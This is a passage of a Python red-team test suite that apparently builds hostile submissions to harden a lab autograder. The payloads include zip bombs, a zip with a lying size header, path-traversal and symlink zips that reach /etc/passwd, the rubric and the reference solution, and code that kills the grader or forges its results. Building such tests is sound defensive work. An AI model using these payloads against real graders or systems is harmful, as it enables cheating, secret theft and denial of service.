    "memoryerror": ("", "MemoryError()"),
    "unprintable": ("class _RTBad(Exception):\n    def __str__(self):\n        raise "
                    "_RTBad()\n    __repr__ = __str__\n", "_RTBad()"),
}
WRONG = {  # name: what every function returns, and puts in the guest's registers
    "str": '"not a number"',
    "huge": "1 << 200",
    "negative": "-1",
    "float": 'float("nan")',
    "object": "object()",
}


def raising(kind: str) -> dict[str, str]:
    defs, exc = RAISES[kind]
    return {name: "\n" + defs + every_function(f"raise {exc}\n") for name in EDITABLE}


def wrong(kind: str) -> dict[str, str]:
    value = WRONG[kind]
    return everywhere(f'''
value = {value}
for a in list(args) + list(kwargs.values()):
    v = getattr(a, "vcpu", None)
    if v is not None:
        for name in ("pc", "sepc", "scause", "stval", "sstatus", "mode", "instret"):
            setattr(v, name, value)
return value
''')


# ----- the submissions that are not plain folders -----------------------------------------------

def symlink_folder(target: Callable[[str], Path]) -> Callable[[Path, Context], Path]:
    def build(dest: Path, ctx: Context) -> Path:
        sub = dest / "sub" / "vmm"
        sub.mkdir(parents=True)
        for name in EDITABLE:
            (sub / f"{name}.py").symlink_to(target(name))
        (dest / "sub" / f"{ctx.marker}.txt").write_text("the submission's own file")
        return dest / "sub"
    return build


def zipped(extra: Callable[[zipfile.ZipFile, Context], None],
           base: Callable[[Context], dict[str, str]] | None = None
           ) -> Callable[[Path, Context], Path]:
    def build(dest: Path, ctx: Context) -> Path:
        path = dest / "submission.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for rel, text in (base(ctx) if base else files({}, {}, ctx)).items():
                z.writestr(rel, text)
            extra(z, ctx)
        return path
    return build


def many_files(z: zipfile.ZipFile, ctx: Context) -> None:
    blob = b"#" * ((1 << 20) - 1) + b"\n"  # 1 MB of comment: a .py file the grader may read
    for i in range(1500):  # 1.5 GB once read, a few MB zipped
        z.writestr(f"pad/{ctx.marker}_{i:04}.py", blob)


def climbing(z: zipfile.ZipFile, ctx: Context) -> None:
    payload = f"open('/tmp/{ctx.marker}.climbed', 'w').write('out')\n"
    for name in (f"../../{ctx.marker}.py", f"../../../../tmp/{ctx.marker}.py",
                 f"/tmp/{ctx.marker}_abs.py", f"../../../vmm/{ctx.marker}.py",
                 "../../../../../../tmp/vmm/trap.py"):
        z.writestr(name, payload)


def zip_symlinks(z: zipfile.ZipFile, ctx: Context) -> None:
    # relative and absolute: where an extraction would resolve them (the text of each, the
    # student's own, may show: not the file)
    targets = {"vmm/trap.py": "../../../solution/vmm/trap.py",
               "vmm/hypercalls.py": "/etc/passwd",
               "vmm/channels.py": "../../../grader/vmlab/rubric.toml"}
    for name, target in targets.items():
        info = zipfile.ZipInfo("solution/" + name)  # shorter paths would win: make these so
        info.create_system = 3  # unix: external_attr holds the mode
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, target)


def symlink_zip_base(ctx: Context) -> dict[str, str]:
    tree = files({}, {}, ctx)
    for name in ("trap", "hypercalls", "channels"):
        del tree[f"vmm/{name}.py"]  # only the symlinks stand for them
    return tree


def bomb(z: zipfile.ZipFile, ctx: Context) -> None:
    # a file that inflates to 512 MB, and one whose header lies about its size
    with z.open(f"vmm/{ctx.marker}_bomb.py", "w", force_zip64=True) as f:
        chunk = b" " * (1 << 20)
        for _ in range(512):
            f.write(chunk)


def lying_header(dest: Path, ctx: Context) -> Path:
    """A zip whose trap.py says it holds 20 bytes and inflates to 64 MB (a bad CRC too)."""
    path = dest / "submission.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, text in files({}, {}, ctx).items():
            if rel != "vmm/trap.py":
                z.writestr(rel, text)
        z.writestr("vmm/trap.py", b"#" * (64 << 20))
    data = bytearray(path.read_bytes())
    # patch trap.py's uncompressed size in its local header and its central directory entry
    name = b"vmm/trap.py"
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (i := data.find(sig, start)) >= 0:
            start = i + 4
            name_at = i + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[i + offset:i + offset + 4] = (20).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def shadowing(dest: Path, ctx: Context) -> Path:
    """Modules named as the standard library's and the grader's, beside the stubs."""
    payload = (f"open('/tmp/{ctx.marker}.shadow', 'w').write('imported')\n"
               "import sys\nsys.exit(0)\n")
    tree = files({}, {}, ctx)
    for rel in ("json.py", "machine.py", "vmlab/__init__.py", "vmlab/worker.py",
                "vmlab/sandbox.py", "hypothesis.py", "unittest.py", "vmm/json.py",
                "vmm/machine.py", "gradescope_utils/__init__.py", "sitecustomize.py",
                "usercustomize.py"):
        tree[rel] = payload
    return write(dest / "sub", tree)


def extra_files(dest: Path, ctx: Context) -> Path:
    """The files a student may not edit, edited: a monitor and a machine that pass anything."""
    tree = files({}, {}, ctx)
    tree["vmm/monitor.py"] = f"open('/tmp/{ctx.marker}.monitor', 'w')\n" + \
        (REPO / "handout" / "vmm" / "monitor.py").read_text()
    tree["machine/__init__.py"] = f"open('/tmp/{ctx.marker}.machine', 'w')\n"
    tree["vmm/trap_helpers.py"] = "raise SystemExit(0)\n"
    tree["tools/vmlab/grade.py"] = "raise SystemExit(0)\n"
    return write(dest / "sub", tree)


def _solution_files(ctx: Context) -> dict[str, str]:
    return {f"vmm/{n}.py": solution(n) for n in EDITABLE}


# ----- the list --------------------------------------------------------------------------------

def _attacks() -> list[Attack]:
    A = Attack
    out = [
        # controls: no attack at all; every check must pass on them
        A("control-stubs", "the untouched handout", on_stubs({})),
        A("control-honest-trap", "the solution's trap.py, the stubs elsewhere",
          on_solution_trap({}), deserved=HONEST_TRAP),
        # the grading process and its result
        A("machine-append", "appends code to the lab folder's machine/ package at import",
          on_stubs({"trap": MACHINE_APPEND})),
        A("honest+machine-append", "solution's channels.py; trap.py appends to machine/",
          lambda dest, ctx: write(dest / "sub", files({"channels": solution("channels")},
                                                      {"trap": MACHINE_APPEND}, ctx)),
          deserved=HONEST_CHANNELS, tests=("emulate", "bounded-buffer")),
        A("results-daemon", "a daemon in its own session replaces results.json",
          on_stubs({"trap": RESULTS_DAEMON})),
        A("write-then-kill", "writes results.json, then kills the grading process",
          on_stubs({"trap": WRITE_THEN_KILL}),
          feedback=KILLED + r"|No such file|Read-only|Permission denied"),
        A("kill-grader", "kills the grading process at import",
          on_stubs({"trap": KILL_GRADER}), feedback=KILLED),
        A("kill-group", "kills the grader's process group and its own from a handler",
          on_stubs({"trap": KILL_GROUP}), feedback=KILLED),
        # answers from elsewhere
        A("exec-solution", "stubs that exec the reference solution found on the machine",
          on_stubs({n: EXEC_SOLUTION for n in EDITABLE})),
        A("symlink-solution", "a folder of symlinks to the reference solution",
          symlink_folder(lambda n: REPO / "solution" / "vmm" / f"{n}.py")),
        A("probe-replace", "replaces the worker's reflect probe with the bare machine's answer",
          on_stubs({"trap": PROBE_REPLACE}), tests=("trap-dispatch", "reflect")),
        A("probe-replace-all", "replaces every part probe of the virtual CPU (reflect, emulate, "
          "counter read, sret, wfi, hypercall) with the bare machine's answer: a scratch Hart "
          "given the virtual CPU's fields", on_stubs({"trap": PROBE_REPLACE_ALL}),
          tests=TRAP_PART_TESTS),
        A("scratch-reflect", "reflect by a scratch Hart of the worker's machine (its trap entry)",
          on_stubs({"trap": SCRATCH_REFLECT}), tests=("reflect",)),
        A("engine-from-disk", "reflect by a scratch Hart of a machine with its engine, found "
          "in the grader's folders on the disk", on_stubs({"trap": ENGINE_FROM_DISK}),
          tests=("reflect",)),
        A("patch-worker", "swaps the worker's own reference ring in for its Channel",
          on_stubs({"channels": PATCH_WORKER})),
        A("bare-engine", "runs each guest on the bare machine in the worker (the interpreter, "
          "or the hardware in S-mode) and reports it as its VMM's run",
          on_stubs({"trap": BARE_ENGINE}), tests=("equivalence-shadow", "efficiency")),
        A("bare-copy", "runs each guest bare on the worker's own copy of the machine (its "
          "Machine class, the firmware answering) and reports it as its VMM's run",
          on_stubs({"trap": BARE_COPY}), tests=("equivalence-shadow", "efficiency")),
        A("forge-counts", "the solution's VMM slowed by a tiny time slice, reporting every "
          "instruction as native", lambda dest, ctx: write(dest / "sub", files(
              {n: solution(n) for n in EDITABLE}, {"trap": FORGE_COUNTS}, ctx)),
          deserved=HONEST_REFLECT_EMULATE, tests=("reflect", "emulate", "efficiency")),
        A("hardware-link", "truncates the shared RAM and sends the hardware nonsense",
          on_stubs({"trap": HARDWARE_LINK}), tests=("reflect", "equivalence-shadow")),
        A("patch-frameworks", "patches unittest, hypothesis, gradescope-utils, the machine",
          on_stubs({"trap": PATCH_FRAMEWORKS})),
        A("flush-does-nothing", "a fill that makes no entry and a flush that does nothing",
          on_stubs({"shadow": "ShadowTables.fill = lambda self, vcpu, va, access: 0\n"
                              "ShadowTables.flush = lambda self: None\n"}),
          tests=("shadow-flush",)),
        A("eq-always-true", "registers and messages whose __eq__ is always true",
          on_stubs({"trap": EQ_TRAP, "channels": EQ_CHANNELS})),
        # reading what it should not
        A("leak-solution", "raises the solution's text into feedback",
          on_stubs({"trap": LEAK_SOLUTION}), feedback=r"exception|raise"),
        A("leak-passwd", "raises /etc/passwd into feedback",
          on_stubs({"trap": LEAK_PASSWD}), feedback=r"exception|raise"),
        A("leak-rubric", "raises the rubric into feedback",
          on_stubs({"trap": LEAK_RUBRIC}), feedback=r"exception|raise"),
        A("leak-symlinks", "editable files that are symlinks to /etc/passwd, the rubric, "
          "the solution", symlink_folder(lambda n: {
              "trap": REPO / "solution" / "vmm" / "trap.py", "hypercalls": Path("/etc/passwd"),
              "channels": REPO / "grader" / "vmlab" / "rubric.toml"}.get(
                  n, REPO / "handout" / "vmm" / f"{n}.py"))),
        A("print-secrets", "prints /etc/passwd, the rubric, the solution, the grader, the "
          "hidden tests", on_stubs({"trap": PRINT_SECRETS})),
        A("fake-results", "fake results on stdout and forged answers on every descriptor",
          on_stubs({"trap": FAKE_RESULTS})),
        A("shadow-modules", "json.py, machine.py, vmlab/, sitecustomize.py in the upload",
          shadowing, feedback=r"ignored|not used|not graded"),
        A("extra-files", "edits files outside the editable list (monitor, machine, tools)",
          extra_files, feedback=r"ignored|not used|not graded"),
        # hangs, crashes, exhaustion
        A("import-loop", "an endless loop at import",
          on_stubs({"trap": "while True:\n    pass\n"}), feedback=r"time|hang|loop"),
        A("handler-loop", "an endless loop in one handler",
          on_stubs({"trap": handler("reflect", "while True:\n    pass\n")}),
          feedback=r"time|hang|loop"),
        A("slow-handler", "a correct reflect that takes half a second a trap",
          on_solution_trap({"trap": SLOW_TRAP}), deserved=HONEST_TRAP,
          tests=("reflect", "emulate"), feedback=r"stopped after|time"),
        A("sys-exit-import", "sys.exit(0) at import",
          on_stubs({"trap": "_rt_sys.exit(0)\n"}), feedback=r"exit"),
        A("os-exit-import", "os._exit(0) at import",
          on_stubs({"trap": "_rt_os._exit(0)\n"}), feedback=r"exit"),
        A("sys-exit-handler", "sys.exit(0) in a handler",
          on_stubs({"trap": handler("reflect", "_rt_sys.exit(0)\n")}), feedback=r"exit"),
        A("os-exit-handler", "os._exit(0) in a handler",
          on_stubs({"trap": handler("reflect", "_rt_os._exit(0)\n")}), feedback=r"exit"),
        A("recursion", "unbounded recursion in a handler",
          on_stubs({"trap": handler("reflect", "reflect(vmm, guest, cause, tval)\n")}),
          feedback=r"recursion"),
        A("recursion-deep", "unbounded recursion past a raised recursion limit",
          on_stubs({"trap": handler("reflect", "_rt_sys.setrecursionlimit(10**7)\n"
                                    "reflect(vmm, guest, cause, tval)\n")}),
          feedback=r"recursion"),
        A("memory", "hoards 1.5 GB in a handler", on_stubs({"trap": MEMORY}),
          feedback=r"memory"),
        A("fork-survivors", "forked children that outlive the grader",
          on_stubs({"trap": FORK_SURVIVORS})),
        A("daemon", "a double-forked daemon that outlives the worker",
          on_stubs({"trap": DAEMON})),
        A("fork-bomb", "40 forked processes (capped), all sleeping",
          on_stubs({"trap": FORK_BOMB})),
        A("socket", "connects to a listener on 127.0.0.1", on_stubs({"trap": SOCKET}),
          listener=True),
        A("tmp-file", "leaves a file in /tmp", on_stubs({"trap": TMP_FILE})),
        A("write-outside", "writes into the repository, the grader, the handout, home, the "
          "submission, /dev/shm, /var/tmp, /run/lock", on_stubs({"trap": WRITE_OUTSIDE})),
        A("output-flood", "200 MB on stdout and stderr", on_stubs({"trap": FLOOD})),
        # mixed: an honest trap.py, the attack in another file
        A("honest+results-daemon", "solution's trap.py; channels.py's daemon forges the results",
          on_solution_trap({"channels": RESULTS_DAEMON}), deserved=HONEST_TRAP,
          tests=("reflect", "emulate", "bounded-buffer")),
        A("honest+patch-worker", "solution's trap.py; channels.py takes the worker's ring",
          on_solution_trap({"channels": PATCH_WORKER}), deserved=HONEST_TRAP,
          tests=("reflect", "emulate", "bounded-buffer")),
        # uploads that are not plain folders
        A("zip-many-files", "a zip of 1500 files of 1 MB each", zipped(many_files)),
        A("zip-climbing", "a zip with ../../ and absolute paths", zipped(climbing)),
        A("zip-symlinks", "a zip whose editable files are symlinks to the solution, passwd, "
          "the rubric", zipped(zip_symlinks, symlink_zip_base)),
        A("zip-bomb", "a zip with a 512 MB file inside", zipped(bomb)),
        A("zip-lying-header", "a zip whose trap.py lies about its size",
          lying_header, feedback=r"zip|corrupt|crc|could not|invalid"),
    ]
    for kind in RAISES:
        exc = RAISES[kind][1].split("(")[0].lstrip("_RT")
        out.append(A(f"raise-{kind}", f"raises {exc} from every function",
                     on_stubs(raising(kind)), tests=FILE_TESTS,
                     feedback={"baseexception": r"_RTBase|BaseException",
                               "systemexit": r"SystemExit|exit",
                               "unprintable": r"_RTBad|exception|error"}.get(kind, exc)))
    for kind in WRONG:
        out.append(A(f"wrong-types-{kind}", f"every function returns {WRONG[kind]}",
                     on_stubs(wrong(kind)), tests=PART_TESTS,
                     feedback=r"type|valid|int|error|wrong"))
    return out


ATTACKS: dict[str, Attack] = {a.name: a for a in _attacks()}


def names() -> list[str]:
    return list(ATTACKS)


def marker_for(name: str) -> str:
    """A string unique to this run of this attack: in its files and command lines."""
    return f"vmlabrt{os.getpid()}x{name.replace('+', '-').replace('-', '')}{os.urandom(3).hex()}"
